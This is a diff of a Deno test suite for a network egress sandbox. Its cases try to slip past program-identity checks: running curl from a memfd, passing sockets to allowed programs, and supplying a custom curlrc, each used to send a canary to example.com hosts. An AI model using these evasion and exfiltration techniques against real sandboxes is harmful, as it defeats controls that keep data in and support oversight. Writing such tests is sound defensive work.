@@ -18,7 +18,8 @@ const SHELL_HOST = "readonly.example.com";
 const TOOL_HOST = "keep.example.com";
 const TOOL_HOST_AGAIN = "mismatch.example.com";
 
-const PYTHON = "/usr/bin/python3.11";
+/** As the kernel reports it: the name of its version. */
+const PYTHON = pythonPath();
 const URL_DATA = `"https://${HOST}/?q=$CANARY"`;
 
 /** `curl` as it is. */
@@ -32,6 +33,15 @@ const AS_PYTHON = `sock = tunnel("${HOST}:443")
 send(tls(sock, "${HOST}", verify=False), b"GET /?q=" + CANARY.encode() + b" HTTP/1.1\\r\\nHost: ${HOST}\\r\\nConnection: close\\r\\n\\r\\n")`;
 
 const REFUSED = /^(connect|status 000 connect) 403/m;
+
+function pythonPath(): string {
+  try {
+    return Deno.realPathSync("/usr/bin/python3");
+  } catch (error) {
+    if (error instanceof Deno.errors.NotFound) return "/usr/bin/python3";
+    throw error;
+  }
+}
 
 function curlAs(program: string): string {
   return `${program} -sS -k -m 15 -w '\\nstatus %{http_code} connect %{http_connect}\\n' ${URL_DATA}`;
@@ -148,6 +158,19 @@ if fd is not None:
     shows: /^refused PermissionError|^worked\nrefused|403/,
   },
   {
+    id: "identity-memory-path",
+    title: "the same, by a path of its descriptor",
+    script: python(`fd = os.memfd_create("curl", 0)
+os.write(fd, open("${CURL}", "rb").read())
+words = ["-sS", "-k", "-m", "9", "-w", "status %{http_code} connect %{http_connect}"]
+try: os.execve("/proc/self/fd/%d" % fd, ["${CURL}", *words, "https://${HOST}/?q=" + CANARY], dict(os.environ))
+except OSError as error:
+  print("refused", error.errno, flush=True)
+  os.execv("/usr/bin/false", ["false"])`),
+    shows: /status 000 connect 403|refused/,
+    event: denied("caller_unknown"),
+  },
+  {
     id: "identity-deleted",
     title: "a program whose file is gone",
     script: `cp ${CURL} ./curl && mkfifo wait && (${
@@ -191,7 +214,6 @@ const SHARES: readonly Case[] = [
     title: "a socket that an allowed program has inherited as well",
     script: python(`${SHARED}
 child = subprocess.Popen(["${CURL}", "-sS", "-K", "-"], stdin=subprocess.PIPE, pass_fds=[sock.fileno()])
-time.sleep(0.3)
 sock.sendall(b"CONNECT ${HOST}:443 HTTP/1.1\\r\\nHost: a\\r\\n\\r\\n")
 print("connect", head(sock).split(b" ")[1].decode(), flush=True)
 child.kill(); child.wait()`),
@@ -237,7 +259,7 @@ os.kill(pid, 9)`),
     script: python(takeOver("after the first bytes")),
     shows: /^opened 200\n(?![^]*HTTP\/1\.1 200)/,
     event: connection(HOST, 8080, undefined, { verdict: "allowed", binary: CURL }),
-    accepted: "What is not protected: Programs as a border",
+    accepted: "Programs as a border",
   },
 ];
 
@@ -257,9 +279,10 @@ socket.send_fds(a, [b"x"], [sock.fileno()])
 open("head", "wb").write(b"CONNECT ${HOST}:8080 HTTP/1.1\\r\\nHost: a\\r\\n\\r\\n${first}")
 urls = ["file://" + os.getcwd() + "/head", "http://127.0.0.1:%d/" % server.getsockname()[1]]
 child = subprocess.Popen(["${CURL}", "-sS", "-N", "--noproxy", "*", *urls], stdout=sock)
+port = sock.getsockname()[1]
 sock.close()
 peer, _ = server.accept()
-time.sleep(0.5)
+wait_for_bytes(port, ${first === "" ? 1 : 100})
 _, fds, _, _ = socket.recv_fds(b, 9, 1)
 sock = socket.socket(fileno=fds[0])
 sock.settimeout(4)
@@ -363,17 +386,17 @@ print(subprocess.run(["${CURL}", "-sS", "-k", "-m", "15", "-w", "status %{http_c
     ),
     event: connection(HOST, 443, undefined, { verdict: "allowed" }),
     shows: /^(?![^]*status 200)/,
-    accepted: "What is not protected: Programs as a border",
+    accepted: "Programs as a border",
   },
   {
-    id: "identity-preload",
-    title: "a program with the configuration of another",
+    id: "identity-configuration",
+    title: "an allowed program, by a configuration of one's own",
     script: `printf 'url = "https://${HOST}/?q=%s"\\ninsecure\\n' "$CANARY" > curlrc; ${
       curl("file:///dev/null", "-K", "curlrc")
     }`,
     event: connection(HOST, 443, undefined, { verdict: "allowed" }),
     shows: /^(?![^]*status 200)/,
-    accepted: "What is not protected: Programs as a border",
+    accepted: "Programs as a border",
   },
 ];
 
